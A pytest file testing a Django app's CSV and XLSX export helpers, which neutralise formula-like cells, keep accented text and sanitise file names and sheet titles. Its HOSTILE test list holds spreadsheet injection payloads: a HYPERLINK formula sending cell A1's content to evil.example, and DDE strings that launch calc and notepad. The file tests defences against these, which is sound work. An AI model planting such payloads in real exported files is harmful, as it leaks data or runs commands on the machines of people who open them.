"""CSV and XLSX exports: hostile cells stay inert, text keeps its accents, files open."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.test import override_settings
from django.utils import timezone

from core.exports import csv_response, csv_safe, write_csv, write_xlsx, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=cmd|' /C notepad'!'A1'",
]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _csv(response) -> list[list[str]]:
    return _csv_rows(_body(response))


def _xlsx(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_safe_neutralises_formula_starts(value):
    """Text that starts like a formula gets an apostrophe and keeps the rest."""
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Ana Gómez", "Ana Gómez"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        (Decimal("-1.50"), "-1.50"),
        (True, "True"),
        (datetime.date(2026, 3, 1), "2026-03-01"),
        (" =1", " =1"),
    ],
)
def test_csv_safe_leaves_harmless_values_alone(value, expected):
    """Plain text, numbers (negative ones too), dates and empty cells are unchanged."""
    assert csv_safe(value) == expected


@override_settings(TIME_ZONE="Europe/Amsterdam")
def test_csv_safe_writes_aware_times_in_the_site_zone():
    """An aware date-time is shown in local time, to the minute."""
    moment = datetime.datetime(2026, 1, 5, 9, 30, tzinfo=datetime.UTC)
    # The zone in force (a request's middleware may have left another one active).
    with timezone.override("Europe/Amsterdam"):
        assert csv_safe(moment) == "2026-01-05 10:30"


def test_csv_response_streams_utf8_with_bom_and_neutralised_cells():
    """The file starts with a BOM, keeps accents and emoji, and no cell starts a formula."""
    rows = [[value, "Zoë 🙂", 7] for value in HOSTILE]
    response = csv_response("roster.csv", ["Name", "Note", "Count"], iter(rows))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="roster.csv"'
    assert "no-store" in response["Cache-Control"]
    body = _body(response)
    assert body.startswith("\ufeff".encode())
    parsed = _csv_rows(body)
    assert parsed[0] == ["Name", "Note", "Count"]
    for row, value in zip(parsed[1:], HOSTILE, strict=True):
        assert row == ["'" + value, "Zoë 🙂", "7"]
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_quotes_every_field_so_separators_cannot_split_cells():
    """A semicolon or comma inside a name stays inside its quoted cell."""
    response = csv_response("x.csv", ["a"], [["x;=1+1"], ['say "hi", then =2']])
    text = _body(response).decode("utf-8-sig")
    assert text.splitlines() == ['"a"', '"x;=1+1"', '"say ""hi"", then =2"']


def test_csv_filename_is_encoded_safely():
    """An odd file name cannot break the header."""
    response = csv_response('rös"ter\r\n.csv', ["a"], [])
    disposition = response["Content-Disposition"]
    assert "\n" not in disposition
    assert disposition.startswith("attachment; filename*=utf-8''")


def test_write_csv_to_a_binary_file_matches_the_response():
    """The background writer produces the same bytes as the download."""
    header, rows = ["Name"], [["=1"], ["Ana"]]
    handle = io.BytesIO()
    write_csv(handle, header, rows)
    assert handle.getvalue() == _body(csv_response("x.csv", header, rows))


def test_xlsx_response_opens_with_the_same_values():
    """The workbook opens with openpyxl and holds exactly what was given, as values."""
    header = ["Name", "E-mail", "Since", "Count", "Share"]
    rows = [
        ["Zoë Ørsted 🙂", "zoe@spoke.example", datetime.date(2026, 2, 1), 3, 12.5],
        ['=HYPERLINK("http://evil.example","x")', "@x", None, -1, Decimal("0.25")],
        ["#N/A", "+31 6 1234", datetime.date(2025, 12, 31), 0, 0.0],
    ]
    response = xlsx_response("roster.xlsx", "Roster", header, iter(rows))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="roster.xlsx"'
    assert "no-store" in response["Cache-Control"]
    data = _body(response)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Roster"]
    sheet = workbook.active
    got = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert got[0] == header
    assert got[1][:2] == ["Zoë Ørsted 🙂", "zoe@spoke.example"]
    assert got[1][2] == datetime.datetime(2026, 2, 1)
    assert got[1][3:] == [3, 12.5]
    assert got[2][:4] == ['=HYPERLINK("http://evil.example","x")', "@x", None, -1]
    assert got[2][4] == pytest.approx(0.25)
    assert got[3][:2] == ["#N/A", "+31 6 1234"]
    # Hostile text is stored as text: no cell holds a formula or an error.
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "n", "d"}, cell.coordinate


def test_xlsx_never_contains_a_formula_element():
    """The sheet's XML has no <f> element, whatever the cells say."""
    handle = io.BytesIO()
    write_xlsx(handle, "x", ["=1+1"], [[value] for value in HOSTILE])
    with zipfile.ZipFile(handle) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    assert 't="inlineStr"' in sheet_xml


def test_xlsx_drops_characters_a_workbook_cannot_hold_and_caps_length():
    """Control characters are removed and very long text is cut to Excel's cell limit."""
    handle = io.BytesIO()
    write_xlsx(handle, "x", ["a"], [["bell\x07 and nul\x00"], ["x" * 40_000]])
    rows = _xlsx(handle.getvalue())
    assert rows[1] == ["bell and nul"]
    assert len(rows[2][0]) == 32_767


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Roster", "Roster"),
        ("a/b:c*d?[e]\\", "a b c d  e"),
        ("", "Sheet"),
        ("x" * 50, "x" * 31),
        ("'quoted'", "quoted"),
    ],
)
def test_xlsx_sheet_titles_are_made_acceptable(title, expected):
    """Forbidden characters, empty and long titles never break the workbook."""
    handle = io.BytesIO()
    write_xlsx(handle, title, ["a"], [])
    workbook = openpyxl.load_workbook(io.BytesIO(handle.getvalue()), read_only=True)
    assert workbook.sheetnames == [expected]


@override_settings(USE_TZ=True, TIME_ZONE="Europe/Amsterdam")
def test_xlsx_writes_aware_times_as_local_times():
    """Spreadsheets have no time zones: an aware time is written in the site's zone."""
    moment = datetime.datetime(2026, 1, 5, 9, 30, tzinfo=datetime.UTC)
    handle = io.BytesIO()
    with timezone.override("Europe/Amsterdam"):
        write_xlsx(handle, "x", ["When"], [[moment]])
    assert _xlsx(handle.getvalue())[1] == [datetime.datetime(2026, 1, 5, 10, 30)]


def test_exports_accept_generators_and_empty_rows():
    """A generator of rows works once, and no rows gives a header-only file."""
    assert _csv(csv_response("x.csv", ["a", "b"], (row for row in []))) == [["a", "b"]]
    assert _xlsx(_body(xlsx_response("x.xlsx", "x", ["a", "b"], iter([])))) == [["a", "b"]]
